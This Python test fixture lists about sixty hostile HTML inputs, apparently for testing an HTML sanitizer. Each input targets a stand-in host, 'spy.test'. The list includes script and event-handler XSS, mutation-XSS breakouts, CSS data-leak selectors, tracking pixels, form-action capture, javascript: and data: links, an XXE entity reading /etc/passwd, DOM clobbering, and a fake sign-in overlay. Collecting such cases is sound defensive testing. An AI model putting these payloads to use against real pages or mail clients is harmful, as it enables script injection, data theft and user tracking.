"""HTML that senders have tried, or could: `SPY` stands for the address that must never hear of it."""

SPY = "http://spy.test"

HOSTILE: dict[str, str] = {
    "script": f"<script>fetch('{SPY}/script')</script>",
    "script source": f"<script src='{SPY}/s.js'></script>",
    "script in capitals": f"<ScRiPt SRC={SPY}/s.js></sCrIpT>",
    "script in two": f"<scr<script>ipt>fetch('{SPY}/two')</script>",
    "script never closed": f"<script>fetch('{SPY}/open')",
    "image that fails": f"<img src=x onerror=\"fetch('{SPY}/onerror')\">",
    "image with a slash": f"<img/src=x/onerror=fetch('{SPY}/slash')>",
    "image without spaces": f"<img src='x'onerror='fetch(\"{SPY}/nospace\")'>",
    "body that loads": f"<body onload=\"fetch('{SPY}/onload')\" background='{SPY}/body.gif'>",
    "details that open": f"<details open ontoggle=\"fetch('{SPY}/toggle')\">",
    "focus at once": f"<input autofocus onfocus=\"fetch('{SPY}/focus')\">",
    "animation": f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart=fetch('{SPY}/anim')>",
    "svg that loads": (
        f"<svg onload=\"fetch('{SPY}/svg')\"><image href='{SPY}/i.png'/><use href='{SPY}/u.svg#a'/></svg>"
    ),
    "svg with a script": f"<svg><script>fetch('{SPY}/svgs')</script></svg>",
    "svg through foreignObject": f"<svg><foreignObject><img src='{SPY}/fo.png'></foreignObject></svg>",
    "svg style breaking out": f"<svg><style><img src=x onerror=fetch('{SPY}/mxss')></style></svg>",
    "math breaking out": (
        "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=alert(1)&gt;'>"
    ),
    "noscript breaking out": f"<noscript><p title=\"</noscript><img src='{SPY}/ns' onerror=alert(1)>\"></noscript>",
    "comment breaking out": f"<!--><img src='{SPY}/c1'>--><!-- --!><img src='{SPY}/c2'>-->",
    "template": f"<template><img src='{SPY}/tpl'></template>",
    "image": f"<img src='{SPY}/pixel.gif' width=1 height=1>",
    "image by several addresses": f"<img srcset='{SPY}/1x.png 1x, {SPY}/2x.png 2x'>",
    "picture": f"<picture><source srcset='{SPY}/p.webp'><img src='{SPY}/p.png'></picture>",
    "image of no scheme": "<img src='//spy.test/noscheme.png'>",
    "image behind controls": f"<img src='\x01 {SPY}/ctl.png'><img src='ht\ntp://spy.test/nl.png'>",
    "image as data with a script": "<img src=\"data:image/svg+xml,<svg onload='alert(1)'/>\">",
    "video": (
        f"<video autoplay poster='{SPY}/v.png' src='{SPY}/v.mp4'></video><audio autoplay src='{SPY}/a.mp3'></audio>"
    ),
    "frame": f"<iframe src='{SPY}/frame'></iframe><frameset><frame src='{SPY}/fs'></frameset>",
    "frame with its own text": f"<iframe srcdoc=\"<img src='{SPY}/srcdoc'>\"></iframe>",
    "object": f"<object data='{SPY}/o'></object><embed src='{SPY}/e'><applet code='{SPY}/a'></applet>",
    "link": (
        f"<link rel=stylesheet href='{SPY}/l.css'><link rel=prefetch href='{SPY}/pre'>"
        f"<link rel=preload as=image href='{SPY}/pl'>"
    ),
    "style import": f"<style>@import '{SPY}/i.css'; body {{ background: url({SPY}/bg.png) }}</style>",
    "style font": f"<style>@font-face {{ font-family: x; src: url({SPY}/f.woff) }} * {{ font-family: x }}</style>text",
    "style reading attributes": (
        f"<style>a[href^=h] {{ background: url({SPY}/starts-with-h) }}</style><a href='http://a.test'>a</a>"
    ),
    "style attribute": f"<p style='background:url({SPY}/st.png);background-image:url({SPY}/st2.png)'>x</p>",
    "style escaped": f"<p style='background:\\75\\72\\6c({SPY}/esc.png)'>x</p>",
    "style in a comment": f"<p style='color:red;/**/background:u/**/rl({SPY}/cm.png)'>x</p>",
    "style by image-set": f"<p style='background:image-set(\"{SPY}/set.png\" 1x)'>x</p>",
    "style of a list": f"<ul style='list-style:url({SPY}/li.png)'><li>x</ul>",
    "style of a border": f"<p style='border-image:url({SPY}/bi.png) 30'>x</p>",
    "style of a cursor": f"<p style='cursor:url({SPY}/cur.png),auto'>x</p>",
    "style over everything": (
        "<div style='position:fixed;top:0;left:0;z-index:99999;width:100%;height:100%'>Sign in again</div>"
    ),
    "style with references": f"<p style='background&colon;url&lpar;{SPY}/ref.png)'>x</p>",
    "table background": f"<table background='{SPY}/tb.png'><tr><td background='{SPY}/td.png'>x</table>",
    "refresh": f"<meta http-equiv=refresh content='0;url={SPY}/refresh'>",
    "refresh in the head": f"<html><head><meta http-equiv=Refresh content='0; {SPY}/refresh2'></head><body>x",
    "base": f"<base href='{SPY}/'><img src='based.png'><a href='x'>x</a>",
    "form": f"<form action='{SPY}/form'><input name=password><button formaction='{SPY}/b'>Go</button></form>",
    "image button": f"<form><input type=image src='{SPY}/ib.png'></form>",
    "link to a script": (
        "<a href='javascript:alert(1)'>a</a>"
        "<a href='&#106;avascript:alert(1)'>b</a><a href='java\tscript:alert(1)'>c</a>"
    ),
    "link to a page of data": (
        "<a href='data:text/html,<script>alert(1)</script>'>a</a><a href=' data:text/html;base64,PHNjcmlwdD4='>b</a>"
    ),
    "link to other schemes": (
        "<a href='vbscript:x'>a</a><a href='file:///etc/passwd'>b</a><a href='blob:x'>c</a><a href='ms-word:x'>d</a>"
    ),
    "link that tells": f"<a href='http://a.test/' ping='{SPY}/ping' download>a</a>",
    "xml": "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]><p>&y;</p>",
    "names of the page": "<img name=body id=cookie><form name=forms><a id=x name=getElementById>",
    "old browsers": (
        f"<xss style='xss:expression(alert(1));behavior:url({SPY}/b.htc)'><img dynsrc='{SPY}/d' lowsrc='{SPY}/l'>"
    ),
    "plaintext": f"<plaintext><img src='{SPY}/plain.png'>",
    "cut in a tag": f"<p>text<img src='{SPY}/cut.png' onerror='alert(1)",
    "cut in a comment": f"<p>text<!-- <img src='{SPY}/cutc.png'>",
    "nul": f"<scr\x00ipt>alert(1)</scr\x00ipt><img src='{SPY}/nul.png' on\x00error=alert(1)>",
    "halves of characters": f"\ud800<img src='{SPY}/half.png' title='\udfff'>",
    "from utf-7": b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-".decode("utf-7"),
    "document escape": "</body></html><script>alert(1)</script>",
    "format fields": "{body}{policy}{0} %s %(x)s",
}
